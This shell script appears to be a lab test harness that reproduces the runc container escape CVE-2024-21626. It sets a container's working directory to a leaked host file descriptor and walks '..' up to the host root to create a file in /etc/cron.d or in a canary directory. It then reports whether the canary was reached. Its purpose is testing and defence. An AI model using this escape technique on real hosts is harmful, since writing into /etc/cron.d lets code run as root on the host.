#!/bin/sh
# CVE-2024-21626: a launcher leaks a host directory handle (fd 7) into the container's init and
# honours the image's WORKDIR /proc/self/fd/7; the container creates a file on the host through its
# working directory. In the lab VM (BW_HOSTLIKE=1) the leaked directory is the VM's own
# /sys/fs/cgroup and the file is /etc/cron.d/bw-escape-$BW_RUN, as in the advisory. Elsewhere
# $BW_WORK plays the host's root: $BW_WORK/sys/fs/cgroup is the leaked directory, $BW_WORK/canary
# the host directory the attacker writes. See README.md.
set -u
. "$BW_LAB/common/lib.sh"

ID=runc-leaked-fd-workdir
W=$BW_WORK

trap bw_host_cleanup EXIT
trap 'exit 143' HUP INT TERM

if bw_hostlike; then
  # The real leaked directory. /sys/fs/cgroup is a directory of sysfs (or the cgroup mount on it)
  # whenever the kernel has cgroups; it is only opened, never written. Without it, a directory of
  # the same kind under /run stands in (README).
  if [ -d /sys/fs/cgroup ]; then
    LEAKED=/sys/fs/cgroup
  else
    LEAKED=/run/bw-lab-cgroup-$BW_RUN
    bw_host_mkdir "$LEAKED" || exit 2
  fi
  CANARY_DIR=/etc/cron.d
  MARKER=$CANARY_DIR/bw-escape-$BW_RUN
  bw_host_mkdir "$CANARY_DIR" || exit 2
  rm -f "$MARKER"
  bw_host_track "$MARKER"
  # From the leaked directory up to the host's root, one `..` per component.
  UP=$(echo "$LEAKED" | tr -cd / | sed 's#/#../#g')
  TARGET=${UP}etc/cron.d/bw-escape-$BW_RUN
else
  LEAKED=$W/sys/fs/cgroup
  CANARY_DIR=$W/canary
  MARKER=$CANARY_DIR/bw-marker
  mkdir -p "$LEAKED" "$CANARY_DIR" || exit 2
  chmod 755 "$CANARY_DIR" || exit 2
  TARGET=../../../canary/bw-marker
fi

# A user-namespaced container root (BW_USERNS) must be able to reach its rootfs under $W, as it can
# reach /var/lib/docker/<uid>.<gid>/ with userns-remap: search permission only, no listing.
chmod 711 "$W" || exit 2
bw_make_rootfs "$W/rootfs" "$BW_BIN/$ID.attack" || exit 2

FLAGS=
bw_setting cwd-check && FLAGS=--cwd-check

# The manager bounds its own wait for the container (12 s, then SIGKILL).
bw_confined "${BW_MGMT_PROFILE:-}" "$BW_BIN/$ID.manager" $FLAGS "$LEAKED" "$W/rootfs" "$TARGET"
RC=$?
[ $RC -eq 0 ] || echo "run.sh: manager exited with $RC" >&2

if [ -e "$MARKER" ]; then
  bw_canary reached "the container created $MARKER on the host through its working directory ($LEAKED)"
else
  bw_canary safe "no file appeared in the host directory $CANARY_DIR"
fi
[ $RC -eq 0 ] || exit 1
exit 0
